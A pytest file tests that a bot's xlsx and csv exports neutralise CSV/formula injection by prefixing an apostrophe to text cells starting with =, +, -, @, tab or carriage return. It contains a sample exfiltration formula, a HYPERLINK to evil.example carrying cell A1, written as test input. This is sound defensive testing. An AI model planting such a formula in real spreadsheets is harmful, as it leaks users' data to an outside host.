"""Exported text a user typed never becomes a formula in Excel or LibreOffice (OWASP's CSV
injection rule): a cell starting with = + - @, a tab or a carriage return gets a leading
apostrophe; numbers stay numbers."""

import asyncio
from datetime import date
from pathlib import Path

import pytest
from clock_steps import Seeder, dana_request, wib
from openpyxl import load_workbook

from bot.cli import main
from db.database import Database
from handlers.exports.sheets import cell

NOV = date(2026, 11, 1)


@pytest.mark.parametrize(
    ("value", "exported"),
    [
        ('=HYPERLINK("http://x","klik")', '\'=HYPERLINK("http://x","klik")'),
        ("+62 812", "'+62 812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tbarang", "'\tbarang"),
        ("\rbarang", "'\rbarang"),
        ("PMT balita", "PMT balita"),
        ("", ""),
        (-5, -5),
        (2_500_000, 2_500_000),
        (1.5, 1.5),
        (None, None),
        (NOV, NOV),
    ],
)
def test_a_cell_is_neutralised_only_when_it_is_text_that_starts_a_formula(value, exported):
    assert cell(value) == exported


async def _seeded(url: str, uraian: str) -> None:
    db = Database(url)
    s = await Seeder(db).load()
    await s.report("Sumber Urip", "2", date(2026, 11, 2), {"K1": 3})
    who = s.staff[s.ids["Sumber Urip"]]
    await dana_request(
        db,
        who,
        "Sumber Urip",
        s.ids["Sumber Urip"],
        number=1,
        created_at=wib(NOV, 9),
        uraian=uraian,
    )
    await db.dispose()


ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_an_activity_typed_as_a_formula_is_text_in_the_xlsx_and_the_csv(
    db_url, tmp_path, monkeypatch, capsys
):
    asyncio.run(_seeded(db_url, ATTACK))
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("EXPORT_DIR", str(tmp_path))
    monkeypatch.setenv("TELEGRAM_BOT_TOKEN", "")

    assert main(["export", "--from", "2026-11-01", "--to", "2026-11-22"]) == 0
    dana = load_workbook(capsys.readouterr().out.strip())["Dana desa"]
    activity = dana.cell(row=2, column=5)
    assert (activity.value, activity.data_type) == ("'" + ATTACK, "s")
    amount = dana.cell(row=2, column=6)
    assert (amount.value, amount.data_type) == (2_500_000, "n")
    formulas = [c.coordinate for row in dana.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []

    assert main(["export", "--from", "2026-11-01", "--to", "2026-11-22", "--format", "csv"]) == 0
    files = capsys.readouterr().out.split()
    text = Path(next(f for f in files if "dana" in f)).read_text(encoding="utf-8-sig")
    assert ',"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",2500000,' in text
